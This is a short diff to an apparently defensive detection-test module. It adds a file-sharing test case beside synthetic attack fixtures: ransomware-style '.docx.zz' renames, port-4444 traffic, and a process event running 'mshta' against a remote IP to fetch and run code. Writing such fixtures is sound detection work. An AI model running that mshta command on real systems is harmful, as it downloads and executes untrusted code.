@@ -23,6 +23,7 @@ from . import test_flows as flows
 from . import test_identities as identities
 from . import test_operations as operations
 from . import test_past as past
+from . import test_sharing as sharing
 from . import test_signins as signins
 from .rows import START, Row, evidence, found
 
@@ -54,6 +55,7 @@ CASES: dict[str, tuple[str, list[Row]]] = {
     "refused": (flows.TABLE, [flows.flow(i * 900.0, 4444.0) for i in range(9)]),
     "volume": (flows.TABLE, flows.hourly(48, 5e9)),
     "renames": ("DeviceFileEvents", [endpoints.renamed(i, f"a{i}.docx.zz", f"a{i}.docx") for i in range(50)]),
+    "share": ("DeviceFileEvents", sharing.turned(14, "kq7z")),
     "obscured": ("DeviceProcessEvents", [commands.command(i * 9.0, line) for i, line in enumerate(commands.TRICKY)]),
     "first": ("DeviceProcessEvents", [*commands.history(), commands.command(
         5.9 * commands.DAY, "mshta http://45.77.10.20/a", name="mshta.exe", parent="explorer.exe")]),
